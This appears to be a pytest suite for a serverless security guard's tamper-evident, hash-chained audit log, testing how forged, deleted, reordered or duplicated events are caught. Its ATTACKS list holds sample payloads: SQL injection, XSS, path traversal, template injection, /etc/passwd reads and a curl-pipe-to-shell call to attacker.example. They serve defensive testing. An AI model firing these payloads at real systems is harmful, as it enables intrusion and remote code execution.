"""Hash-chained security events: a guarded handler writes a log, `faasguard audit verify` proves
it intact or names the first line where it breaks."""

from __future__ import annotations

import itertools
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from faasguard.cli import main
from faasguard.runtime import guard
from faasguard.runtime._chain import event_digest
from faasguard.runtime._events import EventLog, Invocation, http_activity
from tests.runtime._guard_events import GOOD_ORDER, Context, apigw_v1

ATTACKS = [
    "' OR '1'='1' --",
    "<script>alert(document.cookie)</script>",
    "; cat /etc/passwd",
    "../../../../etc/shadow",
    "{{7*7}}{{config.items()}}",
    "1 UNION SELECT username, password FROM users",
    "<img src=x onerror=alert(1)>",
    "$(curl http://attacker.example/x.sh | sh)",
]


def _writer(path: Path) -> Callable[[dict], None]:
    def sink(event: dict) -> None:
        with path.open("a", encoding="utf-8") as handle:
            handle.write(json.dumps(event, separators=(",", ":")) + "\n")
            # what else a function prints lands in the same log stream
            handle.write(f"START RequestId: {event['metadata']['correlation_uid']}\n")

    return sink


def write_log(path: Path, detect: str = "block", **options) -> object:
    handler = guard(events=_writer(path), detect=detect, **options)(
        lambda e, c: {"statusCode": 200}
    )
    for n, attack in enumerate(ATTACKS):
        handler(apigw_v1({**GOOD_ORDER, "note": attack}), Context(aws_request_id=f"req-{n}"))
        handler(apigw_v1(GOOD_ORDER), Context(aws_request_id=f"ok-{n}"))  # no event
    return handler


def audit(path: Path, capsys: pytest.CaptureFixture[str], *extra: str) -> tuple[int, str]:
    capsys.readouterr()
    code = main(["audit", "verify", str(path), *extra])
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def _events(path: Path) -> list[tuple[int, str]]:
    """(index in the file, line) of the security events."""
    lines = path.read_text().splitlines()
    return [(i, line) for i, line in enumerate(lines) if line.startswith("{")]


def _rewrite(path: Path, edit: Callable[[list[str]], None]) -> None:
    lines = path.read_text().splitlines()
    edit(lines)
    path.write_text("\n".join(lines) + "\n")


@pytest.fixture
def log(tmp_path: Path) -> Path:
    path = tmp_path / "events.log"
    write_log(path)
    assert len(_events(path)) >= len(ATTACKS)  # one event per attack, two for some
    return path


def test_events_carry_the_chain(log: Path) -> None:
    events = [json.loads(line) for _, line in _events(log)]
    links = [e["unmapped"]["chain"] for e in events]
    assert [c["seq"] for c in links] == list(range(len(events)))
    assert links[0]["genesis"]["function"] == "orders-api"
    assert all(c["prev"] == p["hash"] for p, c in itertools.pairwise(links))
    assert all(c["id"] == links[0]["id"] and c["alg"] == "sha256" for c in links)
    assert all(event_digest(e, None) == e["unmapped"]["chain"]["hash"] for e in events)


def test_intact_log_verifies(log: Path, capsys: pytest.CaptureFixture[str]) -> None:
    count = len(_events(log))
    code, out = audit(log, capsys)
    assert code == 0, out
    assert f"intact: {count} events in 1 chain(s), {count} other line(s) ignored" in out


def test_modified_line(log: Path, capsys: pytest.CaptureFixture[str]) -> None:
    index, line = _events(log)[3]
    _rewrite(log, lambda lines: lines.__setitem__(index, line.replace("Denied", "Allowed", 1)))
    code, out = audit(log, capsys)
    assert code == 1
    assert f"{log}:{index + 1}: chain " in out and "event modified" in out


def test_deleted_line(log: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (_, _), (i2, _), (i3, _) = _events(log)[1:4]
    _rewrite(log, lambda lines: lines.__setitem__(i2, "START RequestId: gone"))
    code, out = audit(log, capsys)
    assert code == 1
    assert f"{log}:{i3 + 1}:" in out and "1 event(s) deleted before this line (seq 1 → 3)" in out


def test_deleted_first_line(log: Path, capsys: pytest.CaptureFixture[str]) -> None:
    first, _ = _events(log)[0]
    _rewrite(log, lambda lines: lines.pop(first))
    code, out = audit(log, capsys)
    assert code == 1 and "chain starts at seq 1: earlier events missing" in out


def test_inserted_copy(log: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (_, copied), (i5, _) = _events(log)[2], _events(log)[5]
    _rewrite(log, lambda lines: lines.insert(i5, copied))
    code, out = audit(log, capsys)
    assert code == 1
    assert f"{log}:{i5 + 1}:" in out and "seq 2 after seq 4: event duplicated" in out


def test_inserted_forgery(log: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """An attacker who knows the scheme forges a well-formed chained event after seq 4;
    the genuine seq 5 then no longer follows."""
    events = _events(log)
    forged = json.loads(events[4][1])
    forged["unmapped"]["chain"].update({"seq": 5, "prev": forged["unmapped"]["chain"]["hash"]})
    forged["unmapped"]["chain"]["hash"] = event_digest(forged, None)
    at = events[5][0]
    _rewrite(log, lambda lines: lines.insert(at, json.dumps(forged)))
    code, out = audit(log, capsys)
    assert code == 1
    assert f"{log}:{at + 2}:" in out and "seq 5 after seq 5" in out


def test_inserted_unchained_event(log: Path, capsys: pytest.CaptureFixture[str]) -> None:
    call = Invocation(function="orders-api", request_id="fake", method="GET", path="/")
    fake = json.dumps(http_activity(call, status=403, kind="blocked"))
    _rewrite(log, lambda lines: lines.insert(2, fake))
    code, out = audit(log, capsys)
    assert code == 1 and f"{log}:3: chain ?: security event outside any chain" in out


def test_reordered_lines(log: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (i3, l3), (i4, l4) = _events(log)[3:5]

    def swap(lines: list[str]) -> None:
        lines[i3], lines[i4] = l4, l3

    _rewrite(log, swap)
    code, out = audit(log, capsys)
    assert code == 1
    assert f"{log}:{i3 + 1}:" in out and f"out of order: seq 3 comes later, at line {i4 + 1}" in out


def test_unreadable_event_line(log: Path, capsys: pytest.CaptureFixture[str]) -> None:
    index, line = _events(log)[6]
    _rewrite(log, lambda lines: lines.__setitem__(index, line[: len(line) // 2]))
    code, out = audit(log, capsys)
    assert code == 1 and f"{log}:{index + 1}: chain ?: unreadable event" in out


def test_truncation_needs_an_anchor(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "events.log"
    handler = write_log(path)
    anchor = handler.__faasguard__.events.chain.anchor  # type: ignore[attr-defined]
    count = len(_events(path))
    assert anchor.split(":")[1] == str(count - 1)
    assert audit(path, capsys, "--anchor", anchor)[0] == 0
    last, _ = _events(path)[-1]
    _rewrite(path, lambda lines: lines.__delitem__(slice(last, None)))
    assert audit(path, capsys)[0] == 0  # a shorter chain is a valid chain ...
    code, out = audit(path, capsys, "--anchor", anchor)
    assert code == 1 and f"truncated: chain ends at seq {count - 2}" in out  # ... unless
    assert audit(path, capsys, "--anchor", "nonsense")[0] == 2


def test_cloudwatch_prefixes_and_empty_logs(
    log: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    prefix = "2026-11-28T21:00:00.000Z\tc6af9ac6-7b61-11e6-9a41-93e812345678\tINFO\t"
    _rewrite(log, lambda lines: lines.__setitem__(slice(None), [prefix + x for x in lines]))
    assert audit(log, capsys)[0] == 0
    empty = tmp_path / "empty.log"
    empty.write_text("START RequestId: x\nEND RequestId: x\n")
    code, out = audit(empty, capsys)
    assert code == 1 and "no chained security events found" in out
    assert audit(tmp_path / "absent.log", capsys)[0] == 2


def test_keyed_chain(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("FAASGUARD_AUDIT_KEY", "k3y-from-secrets-manager")
    path = tmp_path / "events.log"
    write_log(path)
    monkeypatch.delenv("FAASGUARD_AUDIT_KEY")
    key = tmp_path / "audit.key"
    key.write_text("k3y-from-secrets-manager\n")
    wrong = tmp_path / "wrong.key"
    wrong.write_text("guess")
    code, out = audit(path, capsys)
    assert code == 2 and "keyed (HMAC): give its key" in out
    assert audit(path, capsys, "--key", str(key))[0] == 0
    code, out = audit(path, capsys, "--key", str(wrong))
    assert code == 1 and "event modified" in out
    # without the key a forger can only rebuild a plain chain, which the key holder rejects
    events = [json.loads(line) for _, line in _events(path)]
    prev = events[0]["unmapped"]["chain"]["prev"]
    for event in events:
        link = event["unmapped"]["chain"]
        link.update({"alg": "sha256", "prev": prev})
        event["action"] = "Allowed"
        link["hash"] = prev = event_digest(event, None)
    path.write_text("".join(json.dumps(e) + "\n" for e in events))
    assert audit(path, capsys)[0] == 0  # consistent for anyone without the key ...
    code, out = audit(path, capsys, "--key", str(key))
    assert code == 1 and "not keyed although a key was given" in out  # ... not with it


def test_sampled_and_capped_events_do_not_break_the_chain(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "events.log"
    write_log(path, detect="monitor", sample_rate=0.5, max_events_per_second=3)
    kept = len(_events(path))
    assert 0 < kept < len(ATTACKS)
    assert audit(path, capsys)[0] == 0


def test_refused_write_does_not_break_the_chain(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "events.log"
    write = _writer(path)
    calls = {"n": 0}

    def flaky(event: dict) -> None:
        calls["n"] += 1
        if calls["n"] == 3:
            raise OSError("log pipe full")
        write(event)

    log = EventLog(sink=flaky, max_per_second=1000)
    call = Invocation(function="f", request_id="r", method="POST", path="/x")
    sent = [log.emit(http_activity(call, status=400, kind="x"), allowed=False, request_id="r")
            for _ in range(6)]  # fmt: skip
    assert sent == [True, True, False, True, True, True]
    assert audit(path, capsys)[0] == 0


def test_two_guards_two_chains(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "events.log"
    first = guard(events=_writer(path))(lambda e, c: None)
    second = guard(events=_writer(path), function_name="billing")(lambda e, c: None)
    for n, attack in enumerate(ATTACKS[:4]):
        for handler in (first, second):
            handler(apigw_v1({**GOOD_ORDER, "note": attack}), Context(aws_request_id=f"r{n}"))
    functions = [json.loads(line)["resources"][0]["name"] for _, line in _events(path)]
    assert {"orders-api", "billing"} == set(functions)
    code, out = audit(path, capsys)
    assert code == 0 and f"{len(functions)} events in 2 chain(s)" in out


def test_json_output(log: Path, capsys: pytest.CaptureFixture[str]) -> None:
    index, line = _events(log)[2]
    _rewrite(log, lambda lines: lines.__setitem__(index, line.replace("High", "Low", 1)))
    code, out = audit(log, capsys, "--format", "json")
    result = json.loads(out)
    assert code == 1 and result["intact"] is False
    assert result["breaks"][0]["line"] == index + 1
    assert result["breaks"][0]["reason"].startswith("event modified")
    assert result["chains"][0]["events"] == len(_events(log))


def test_default_stdout_sink_log_verifies(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The Lambda default: events printed to stdout, mixed with the function's own output."""
    handler = guard()(lambda e, c: print("handler output {not json") or {"statusCode": 200})
    for n, attack in enumerate(ATTACKS):
        handler(apigw_v1({**GOOD_ORDER, "note": attack}), Context(aws_request_id=f"a{n}"))
        handler(apigw_v1(GOOD_ORDER), Context(aws_request_id=f"b{n}"))
    path = tmp_path / "stdout.log"
    path.write_text(capsys.readouterr().out)
    code, out = audit(path, capsys)
    assert code == 0, out
    assert f"{len(ATTACKS)} other line(s) ignored" in out


# ----- adversarial review: crafted lines and anchors must give findings, never a crash
def test_deeply_nested_line_is_a_break_not_a_crash(
    log: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bomb = '{"class_uid":2004,"unmapped":{"chain":' + "[" * 200_000 + "]" * 200_000 + "}}"
    _rewrite(log, lambda lines: lines.insert(3, bomb))
    code, out = audit(log, capsys)
    assert code == 1 and f"{log}:4: chain ?: unreadable event" in out


def test_duplicate_keys_are_a_break(log: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A first-wins reader (many SIEMs) would see "Allowed" while the hash covers the last
    value: a line whose meaning depends on the parser must not verify."""
    index, line = _events(log)[2]
    forged = '{"action":"Allowed",' + line[1:]
    assert json.loads(forged) == json.loads(line)  # Python's last-wins reading hides it
    _rewrite(log, lambda lines: lines.__setitem__(index, forged))
    code, out = audit(log, capsys)
    assert code == 1 and f"{log}:{index + 1}:" in out and "duplicate key" in out


@pytest.mark.parametrize(
    "anchor", ["abc:\u00b2:" + "a" * 64, "abc:1:" + "z" * 64, "abc:\u0663:" + "0" * 64]
)
def test_malformed_anchor_is_a_usage_error(
    log: Path, capsys: pytest.CaptureFixture[str], anchor: str
) -> None:
    code, out = audit(log, capsys, "--anchor", anchor)
    assert code == 2 and "expected CHAIN:SEQ:SHA256-HEX" in out


def test_concurrent_emitters_keep_one_unbroken_chain() -> None:
    """Threads sharing a guard (GCP and Azure run requests concurrently in one process) must
    not hand out one seq twice: the log of a thread-safe emitter verifies."""
    import threading
    import time

    from faasguard.integrity import verify_log

    lines: list[str] = []

    def slow_sink(event: dict) -> None:
        time.sleep(0.0005)  # the write is I/O: other threads run meanwhile
        lines.append(json.dumps(event))

    log = EventLog(sink=slow_sink, max_per_second=10_000)

    def work(n: int) -> None:
        for i in range(15):
            call = Invocation(function="orders", request_id=f"t{n}-{i}", method="POST")
            log.emit(http_activity(call, status=400, kind="schema"), allowed=False,
                     request_id=call.request_id)  # fmt: skip

    threads = [threading.Thread(target=work, args=(n,)) for n in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    result = verify_log(lines)
    assert len(lines) == 60 and result.breaks == () and result.ok
